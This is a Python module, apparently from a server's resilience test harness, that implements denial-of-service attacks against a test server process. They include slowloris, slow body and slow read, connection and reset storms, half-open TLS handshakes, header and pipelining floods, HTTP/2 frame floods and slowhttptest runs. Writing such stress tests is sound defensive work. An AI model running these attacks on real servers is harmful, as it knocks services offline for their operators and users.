"""Attacks. Each one is given a server and seconds, is over when it returns, and says how much it was."""

import select
import socket
import struct
import subprocess
import time
from pathlib import Path

from support import frames
from support.compile import c_program
from support.server import ServerProcess

GET = b"GET /a.gif HTTP/1.1\r\nHost: a\r\n\r\n"
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 100


def opened(address, count: int, receive_buffer: int | None = None) -> list[socket.socket]:
    clients = []
    for _ in range(count):
        client = socket.socket()
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        client.settimeout(5)
        client.connect(address)
        client.setblocking(False)
        clients.append(client)
    return clients


def say(client: socket.socket, octets: bytes) -> bool:
    """Whether it took them."""
    try:
        return client.send(octets) == len(octets)
    except OSError:
        return False


def drop(clients: list[socket.socket]) -> None:
    for client in clients:
        client.close()


def dribbling(first: bytes, piece: bytes, count: int = 500):
    """`count` clients that begin with `first` and send a piece now and then; who is closed comes again."""

    def attack(server: ServerProcess, seconds: float) -> str:
        clients = opened(server.address, count)
        for client in clients:
            say(client, first)
        end, again = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            closed = [c for c in clients if not say(c, piece)]
            for client in closed:
                clients.remove(client)
                client.close()
            again += len(closed)
            fresh = opened(server.address, len(closed))
            for client in fresh:
                say(client, first)
            clients += fresh
            time.sleep(0.1)
        drop(clients)
        return f"{count} connections, {again} came again"

    return attack


def never_reading(asked: bytes, times: int, count: int = 300):
    """Clients with small windows that ask for much and read nothing."""

    def attack(server: ServerProcess, seconds: float) -> str:
        clients = opened(server.address, count, receive_buffer=2048)
        end, asks = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            for client in clients:
                asks += say(client, asked * times)
            time.sleep(0.05)
        drop(clients)
        return f"{count} connections, {asks * times} requests"

    return attack


def silent(count: int):
    def attack(server: ServerProcess, seconds: float) -> str:
        end, all_of_them = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            clients = opened(server.address, count)
            all_of_them += count
            time.sleep(min(1.0, max(0.0, end - time.monotonic())))
            drop(clients)
        return f"{all_of_them} connections, {count} at a time"

    return attack


def storm(how: str):
    """Connections made and left as fast as `storm.c` is told."""

    def attack(server: ServerProcess, seconds: float) -> str:
        host, port = server.addresses[1 if how == "tls" else 0]
        argv = [str(c_program(Path(__file__).with_name("storm.c"), optimise=True)), host, str(port), how]
        done = subprocess.run([*argv, "10000", str(seconds)], capture_output=True, text=True, check=True)
        return f"{done.stdout.strip()} a second"

    return attack


def saying(octets: bytes, endless: bool, count: int = 20):
    """The same octets as fast as one thread can, once or without end, on each connection until that is
    closed; then on another one."""

    def attack(server: ServerProcess, seconds: float) -> str:
        left = dict.fromkeys(opened(server.address, count), memoryview(octets))
        end, sent, connections = time.monotonic() + seconds, 0, count
        while time.monotonic() < end:
            _, writable, _ = select.select([], list(left), [], 0.1)
            for client in writable:
                try:
                    said = client.send(left[client][:65536])
                    sent += said
                    left[client] = left[client][said:] or memoryview(octets if endless else b"")
                    while client.recv(65536):
                        pass
                    raise ConnectionResetError
                except BlockingIOError:
                    pass
                except OSError:
                    del left[client]
                    client.close()
                    left[opened(server.address, 1)[0]] = memoryview(octets)
                    connections += 1
        drop(list(left))
        return f"{connections / seconds:.0f} connections and {sent / 2**20 / seconds:.1f} MiB a second"

    return attack


def repeated(octets: bytes):
    """Whole messages, without end."""
    return saying(octets, endless=True)


def flooding(what: str):
    """A flood of HTTP/2."""
    first = frames.PREFACE + frames.frame(frames.SETTINGS)
    return saying(first + b"".join(frames.FLOODS[what](at) for at in range(20_000)), endless=False)


def half_open(server: ServerProcess, seconds: float) -> str:
    clients = opened(server.addresses[1], 1000)
    for client in clients:
        say(client, HELLO)
    time.sleep(seconds)
    drop(clients)
    return "1000 handshakes that stop half-way"


def slowhttptest(*options: str):
    def attack(server: ServerProcess, seconds: float) -> str:
        url = f"http://{server.address[0]}:{server.address[1]}/a.html"
        argv = ["slowhttptest", *options, "-c", "1000", "-r", "500", "-l", str(max(1, int(seconds))), "-u", url, "-v", "0"]
        subprocess.run(argv, capture_output=True, timeout=seconds + 30)
        return "1000 connections"

    return attack


MANY_FIELDS = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(90)) + b"\r\n"
TOO_MANY = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 1000 + b"\r\n"
HUGE = b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 15_900 + b"\r\n\r\n"

ALL = {
    "slowloris": dribbling(b"GET / HTTP/1.1\r\nHost: a\r\n", b"X: y\r\n"),
    "slow body": dribbling(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", b"x"),
    "an octet at a time": dribbling(b"", b"G"),
    "slow read, zero window": never_reading(b"GET /a.pdf HTTP/1.1\r\nHost: a\r\n\r\n", 20),
    "silent connections": silent(4000),
    "open and abandon": storm("close"),
    "reset storm": storm("reset"),
    "half-open handshakes": half_open,
    "aborted handshakes": storm("tls"),
    "pipelining flood": repeated(GET * 500),
    "huge heads": repeated(HUGE),
    "floods of fields": repeated(MANY_FIELDS),
    "too many fields": repeated(TOO_MANY),
    **{f"HTTP/2, {what}": flooding(what) for what in frames.FLOODS},
    "slowhttptest -H": slowhttptest("-H", "-i", "1"),
    "slowhttptest -B": slowhttptest("-B", "-i", "1"),
    "slowhttptest -X": slowhttptest("-X", "-w", "10", "-y", "20", "-n", "1", "-z", "10"),
}
